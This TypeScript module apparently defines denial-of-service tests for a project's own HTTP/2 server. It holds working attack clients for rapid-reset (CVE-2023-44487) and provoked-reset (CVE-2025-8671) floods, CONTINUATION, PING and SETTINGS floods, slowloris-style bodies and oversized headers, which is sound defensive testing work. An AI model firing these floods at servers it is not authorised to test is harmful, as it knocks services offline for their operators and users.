import type { Socket } from "node:net";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  frame,
  headerBlock,
  PREFACE,
  requestBlock,
} from "../../packages/http-server/test/http2/raw-http2.js";
import type { Attack } from "./attack.js";
import { crowd, drip, pour, untilGone } from "./attack.js";

/** Creates an attack whose clients start a valid HTTP/2 connection and read everything. */
function over(name: string, connections: number, act: Act): Attack {
  return {
    name,
    connections,
    run: (tools, count) =>
      crowd(count, tools, (socket) => {
        socket.resume().write(PREFACE);
        return act(socket, tools);
      }),
  };
}

type Act = (socket: Socket, tools: Parameters<Attack["run"]>[0]) => Promise<unknown>;

const CANCEL = Buffer.from([0, 0, 0, 8]);
const GEO_IP = "/v1/geoIp?ip_address=8.8.8.8";

/** Concatenates frames of `count` streams with increasing odd identifiers. */
function streams(count: number, bytesOf: (id: number) => readonly Uint8Array[]): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => bytesOf(2 * index + 1)).flat());
}

const get = (id: number, path = GEO_IP) =>
  frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, requestBlock("GET", path));

/** Attacks over HTTP/2. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  over("idle HTTP/2 connections", 10_000, untilGone),
  over("slow bodies over HTTP/2", 200, (socket, tools) => {
    const open = (id: number) =>
      frame(FRAME.HEADERS, END_HEADERS, id, requestBlock("POST", "/v1/sanitizeEmail"));
    socket.write(streams(50, (id) => [open(id)]));
    const bytes = streams(50, (id) => [frame(FRAME.DATA, 0, id, Buffer.from(" "))]);
    return drip(socket, tools, () => bytes);
  }),
  over("incomplete header sections", 500, (socket, tools) => {
    socket.write(frame(FRAME.HEADERS, END_STREAM, 1, requestBlock()));
    return untilGone(socket, tools);
  }),
  over("rapid resets", 20, async (socket, tools) => {
    // CVE-2023-44487: immediate resets allow more streams than the limit of concurrent streams.
    socket.write(streams(2000, (id) => [get(id), frame(FRAME.RST_STREAM, 0, id, CANCEL)]));
    await untilGone(socket, tools);
  }),
  over("provoked resets", 20, async (socket, tools) => {
    // CVE-2025-8671: each stream ends with a client error after the service has started to process it.
    const block = Buffer.concat([
      requestBlock("POST", "/v1/sanitizeEmail"),
      headerBlock({ "content-length": "1" }),
    ]);
    const begin = (id: number) => frame(FRAME.HEADERS, END_HEADERS, id, block);
    const tooMuch = (id: number) => frame(FRAME.DATA, END_STREAM, id, Buffer.from("too much"));
    socket.write(streams(2000, (id) => [begin(id), tooMuch(id)]));
    await untilGone(socket, tools);
  }),
  over("huge headers over HTTP/2", 50, async (socket, tools) => {
    const huge = Buffer.concat([requestBlock(), ...Array(120).fill(headerBlock({ x: "y".repeat(126) }))]);
    socket.write(streams(200, (id) => [frame(FRAME.HEADERS, END_HEADERS | END_STREAM, id, huge)]));
    await untilGone(socket, tools);
  }),
  over("a flood of CONTINUATION frames", 50, (socket, tools) => {
    socket.write(frame(FRAME.HEADERS, END_STREAM, 1, requestBlock()));
    return pour(socket, tools, frame(FRAME.CONTINUATION, 0, 1, headerBlock({ x: "y".repeat(100) })));
  }),
  over("a flood of PINGs", 10, (socket, tools) =>
    pour(
      socket,
      tools,
      streams(500, () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))]),
    ),
  ),
  over("a flood of PINGs without reading the responses", 50, (socket, tools) =>
    pour(
      socket.pause(),
      tools,
      streams(500, () => [frame(FRAME.PING, 0, 0, Buffer.alloc(8))]),
    ),
  ),
  over("a flood of SETTINGS", 10, (socket, tools) =>
    pour(
      socket,
      tools,
      streams(500, () => [frame(FRAME.SETTINGS, 0, 0, Buffer.from("000400010000", "hex"))]),
    ),
  ),
  over("HTTP/2 responses without window updates", 200, async (socket, tools) => {
    // Without window updates, all streams together receive 65,535 bytes.
    socket.write(streams(200, (id) => [get(id, "/v1/countries")]));
    await untilGone(socket, tools);
  }),
  over("HTTP/2 responses that are not read", 200, async (socket, tools) => {
    const window = frame(8, 0, 0, Buffer.from("3fffffff", "hex"));
    socket.pause().write(Buffer.concat([window, streams(200, (id) => [get(id, "/v1/countries")])]));
    await untilGone(socket, tools);
  }),
];
